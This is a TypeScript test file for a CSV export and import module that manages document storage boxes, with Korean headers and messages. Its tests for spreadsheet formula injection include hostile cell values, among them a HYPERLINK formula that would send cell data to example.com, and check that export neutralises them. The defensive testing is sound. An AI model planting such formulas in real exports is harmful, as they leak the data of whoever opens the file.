import { BASE_DAY, fixtures } from "@damadum/sdk/mocks";
import { describe, expect, test } from "vitest";
import { boxesToCsv, csvToBoxes, MAX_FILE_ROWS } from "./box-csv.ts";

const box = fixtures.companyBox(BASE_DAY);
const HEAD = "박스 번호,부서,내용물";
const OTHER = "BXGGGGGGGGG4";

const linesOf = (text: string) => csvToBoxes(text).bad.map(({ line }) => line);

describe("boxesToCsv", () => {
  test("starts with a byte order mark and the header when it is the first part", () => {
    expect(boxesToCsv([box], true)).toMatch(
      /^\u{FEFF}박스 번호,이름,상태,부서,내용물,보존 기한\r\n/u,
    );
    expect(boxesToCsv([box], false)).toMatch(/^\r\nBX/);
  });

  test("keeps commas, quotes and line breaks inside their cell", () => {
    const contents = '전표, "원본"\n영수증';
    const text = boxesToCsv([{ ...box, contents }], true);
    expect(csvToBoxes(text).rows[0]?.changes.contents).toBe(contents);
  });

  test.each([
    "=1+1",
    "=1+1\n메모",
    "@SUM(1+1)\n메모",
    '=HYPERLINK("https://example.com/?"&A1,\n"열기")',
    "+82 10",
    "-1",
    "＝1+1",
    "＠SUM(1)",
    "''=1+1",
    "''''＋1",
    "\u200B=1+1",
    "\u3164=1+1",
    "\uFE0F=1+1",
    "\u2800=1+1",
    "\u0001=1+1",
    "−1",
    "﹦1+1",
  ])("marks %j as text, and csvToBoxes restores it", (contents) => {
    const text = boxesToCsv([{ ...box, contents }], true);
    expect(text).toContain(`''${contents.replaceAll('"', '""')}`);
    expect(csvToBoxes(text).rows[0]?.changes.contents).toBe(contents);
  });

  test.each([" =1+1", "\n=1+1", "\t=1+1", "\u3000＝1", "\u00A0+1", "\t메모", "\r메모"])(
    "marks a cell that begins with %j",
    (contents) => {
      expect(boxesToCsv([{ ...box, contents }], false)).toContain(`''${contents}`);
    },
  );

  test.each(["메모;=1+1", "메모\t=1+1", "메모|=1+1"])(
    "keeps %j in one cell when a program ends cells at another letter",
    (contents) => {
      expect(boxesToCsv([{ ...box, contents }], false)).toContain(`,"${contents}",`);
    },
  );

  test.each(["'=1+1", "'''=1+1", "'90년대 자료", "계약서 = 원본"])(
    "leaves %j as it was typed, and csvToBoxes too",
    (contents) => {
      const text = boxesToCsv([{ ...box, contents }], true);
      expect(text).toContain(`,${contents},`);
      expect(csvToBoxes(text).rows[0]?.changes.contents).toBe(contents);
    },
  );
});

describe("csvToBoxes", () => {
  test("changes only the columns that the file has", () => {
    expect(csvToBoxes(`박스 번호,부서\n${box.serial},법무팀`)).toEqual({
      rows: [{ line: 2, serial: box.serial, changes: { department: "법무팀" } }],
      bad: [],
      ignored: [],
    });
  });

  test.each(["2031-12-31", "2031. 12. 31.", "2031.12.31", "2031/12/31"])(
    "reads names and the retention day %j",
    (day) => {
      expect(csvToBoxes(`박스 번호,이름,보존 기한\n${box.serial},계약서-A,${day}`)).toEqual({
        rows: [
          {
            line: 2,
            serial: box.serial,
            changes: { name: "계약서-A", retention_until: "2031-12-31" },
          },
        ],
        bad: [],
        ignored: [],
      });
    },
  );

  test("clears the retention day of an empty cell, and rejects a day that does not exist", () => {
    const { rows, bad } = csvToBoxes(
      `박스 번호,보존기한\n${box.serial},\n${OTHER},2031-02-30\nBXVVVVVVVVVX,내년`,
    );
    expect(rows.map(({ changes }) => changes)).toEqual([{ retention_until: null }]);
    expect(bad).toEqual(
      [3, 4].map((line) => ({ line, reason: "보존 기한: 2031-12-31처럼 적어 주세요." })),
    );
  });

  test.each(["2031년 12월 31일", "２０３１－１２－３１"])("reads the retention day %s", (day) => {
    const { rows } = csvToBoxes(`박스 번호,보존 기한\n${box.serial},${day}`);
    expect(rows.map(({ changes }) => changes)).toEqual([{ retention_until: "2031-12-31" }]);
  });

  test("stops at the first of 200,000 wrong quotation marks", () => {
    const text = `${HEAD}\n${`${box.serial},"A"급,문서\n`.repeat(200_000)}`;
    expect(csvToBoxes(text)).toMatchObject({ rows: [], bad: [{ line: 2 }] });
  });

  test("names the line of a cell with ten million letters", () => {
    const text = `${HEAD}\n${box.serial},법무팀,${"a".repeat(10_000_000)}`;
    expect(csvToBoxes(text)).toMatchObject({ rows: [], bad: [{ line: 2 }] });
  });

  test("names the columns that it does not write", () => {
    const text = `박스 번호,상태,부서,비고,\n${box.serial},보관 중,법무팀,급함,`;
    expect(csvToBoxes(text)).toMatchObject({ bad: [], ignored: ["상태", "비고"] });
  });

  test("names each bad line by its number in a spreadsheet when box numbers are wrong or repeated", () => {
    const text = `${HEAD}\n${box.serial},a,b\n12,a,b\n${box.serial},c,d`;
    const { rows, bad } = csvToBoxes(text);
    expect(rows).toHaveLength(1);
    expect(bad).toEqual([
      { line: 3, reason: "박스 번호가 아니에요." },
      { line: 4, reason: "2번째 줄에 같은 박스가 있어요." },
    ]);
  });

  test("counts empty rows and line breaks in cells as a spreadsheet does", () => {
    expect(linesOf(`${HEAD}\n${box.serial},a,"b\nb"\n,,\n\n12,a,b\n,,\n`)).toEqual([5]);
  });

  test("rejects a line when a text is too long or a cell has no header", () => {
    const { rows, bad } = csvToBoxes(`${HEAD}\n${box.serial},${"가".repeat(61)},b\n${OTHER},a,b,c`);
    expect(rows).toEqual([]);
    expect(bad).toEqual([
      { line: 2, reason: "부서: 60자까지 쓸 수 있어요." },
      { line: 3, reason: "제목보다 칸이 많아요. 쉼표가 든 글은 따옴표로 감싸 주세요." },
    ]);
  });

  test("reads a cell that is missing at the end as empty, and ignores empty cells without a header", () => {
    const { rows, bad } = csvToBoxes(`${HEAD}\n${box.serial},a\n${OTHER},a,b,,`);
    expect(bad).toEqual([]);
    expect(rows.map(({ changes }) => changes)).toEqual([
      { department: "a", contents: "" },
      { department: "a", contents: "b" },
    ]);
  });

  test.each([
    ["opens a cell and goes on after it", '"A"급 문서'],
    ["opens a cell and is never closed", '"A급 문서'],
    ["is closed by a later one", '"A"급, "B"급'],
  ])("rejects the file from the line whose quotation mark %s", (_case, cell) => {
    const text = `${HEAD}\n${box.serial},a,b\n${OTHER},a,${cell}\nBXVVVVVVVVVX,a,"b"\n`;
    const { bad } = csvToBoxes(text);
    expect(bad).toEqual([{ line: 3, reason: expect.stringMatching(/따옴표.*이 줄부터/) }]);
  });

  test("rejects the line whose cell has swallowed the next box", () => {
    const closed = `${HEAD}\n${box.serial},a,"b\n${OTHER},a,b"\nBXVVVVVVVVVX,a,b`;
    expect(csvToBoxes(closed).bad).toEqual([
      { line: 2, reason: expect.stringContaining("다른 박스의 줄") },
    ]);
    expect(linesOf(`부서,박스 번호,내용물\n"a,${box.serial},b\na",${OTHER},b`)).toEqual([2]);
    // Also one whose own number is wrong, or that is separated otherwise.
    expect(linesOf(`${HEAD}\n${box.serial},a,"b\nBXGGGGGGG,a,b"`)).toEqual([2]);
    expect(linesOf(`${HEAD}\n${box.serial},a,"b\n${OTHER};a"`)).toEqual([2]);
  });

  test("reads rows with different line breaks as rows", () => {
    const text = `${HEAD}\r\n${box.serial},a,b\n${OTHER},a,b\rNOT-A-BOX,a,b`;
    const { rows, bad } = csvToBoxes(text);
    expect(rows.map(({ line }) => line)).toEqual([2, 3]);
    expect(bad.map(({ line }) => line)).toEqual([4]);
  });

  test("keeps a quotation mark inside a cell", () => {
    const { rows } = csvToBoxes(`${HEAD}\n${box.serial},a,5" 파이프`);
    expect(rows[0]?.changes.contents).toBe('5" 파이프');
  });

  test.each([
    ["without spaces", "박스번호,부서,내용물"],
    ["with more spaces", " 박스  번호 ,\u3000부서, 내용물"],
    ["behind byte order marks", "\u{FEFF}\u{FEFF}박스 번호,부서,내용물"],
    ["decomposed", HEAD.normalize("NFD")],
    ["with marks", "[박스 번호]*,*부서,\u200B내용물:"],
    ["in quotes", '"박스 번호","부서","내용물"'],
    ["below a title", `박스 목록,,\n"2026년, 총무팀",,\n${HEAD}`],
    ["below the name of the delimiter", `sep=,\n${HEAD}`],
  ])("reads headers %s", (_case, head) => {
    const { rows, bad } = csvToBoxes(`${head}\n${box.serial},a,b`);
    expect(bad).toEqual([]);
    expect(rows).toMatchObject([{ serial: box.serial, changes: { department: "a" } }]);
  });

  test.each([";", "\t"])("reads cells that are separated by %j", (delimiter) => {
    const text = `${HEAD}\n${box.serial},가,나`.replaceAll(",", delimiter);
    const changes = { department: "가", contents: "나" };
    expect(csvToBoxes(text).rows).toMatchObject([{ line: 2, changes }]);
    // Excel does not count the line that it does not show.
    expect(csvToBoxes(`sep=${delimiter}\r\n${text}`).rows).toMatchObject([{ line: 2, changes }]);
  });

  test("reads box numbers in full width, and names every line with an invisible letter", () => {
    const wide = OTHER.replaceAll(/./g, (letter) =>
      String.fromCharCode(letter.charCodeAt(0) + 0xfee0),
    );
    const rest = `BXVVVVVVVVVX,a\0,b\n${box.serial},a,\u202Eb`;
    const { rows, bad } = csvToBoxes(`${HEAD}\n${wide},a,b\n${rest}`);
    expect(rows.map(({ serial }) => serial)).toEqual([OTHER]);
    expect(bad.map(({ line }) => line)).toEqual([3, 4]);
  });

  test("rejects a box above the headers", () => {
    const text = `${OTHER},a,b\n${HEAD}\n${box.serial},a,b`;
    expect(csvToBoxes(text).bad).toEqual([
      { line: 1, reason: "제목 줄 위에 박스가 있어요. 제목을 맨 위로 옮겨 주세요." },
    ]);
  });

  test("composes and counts syllables when a Mac has decomposed them", () => {
    const department = "총무팀".repeat(20);
    const text = `${HEAD}\n${box.serial},${department},b`.normalize("NFD");
    expect(csvToBoxes(text)).toMatchObject({ rows: [{ changes: { department } }], bad: [] });
  });

  test("rejects the whole file when its header or its size is wrong", () => {
    expect(linesOf("이름,부서\na,b")).toEqual([1]);
    expect(linesOf(HEAD)).toEqual([2]);
    expect(linesOf(`박스 번호,상태\n${box.serial},a`)).toEqual([1]);
    expect(csvToBoxes(`목록\n박스 번호,부서,부서\n${box.serial},a,b`).bad).toEqual([
      { line: 2, reason: "‘부서’ 칸이 두 번 있어요. 하나만 남겨 주세요." },
    ]);
    const many = Array.from({ length: MAX_FILE_ROWS + 1 }, () => `${box.serial},a,b`);
    expect(csvToBoxes([HEAD, ...many].join("\n"))).toMatchObject({
      rows: [],
      bad: [{ line: MAX_FILE_ROWS + 2 }],
    });
  });
});
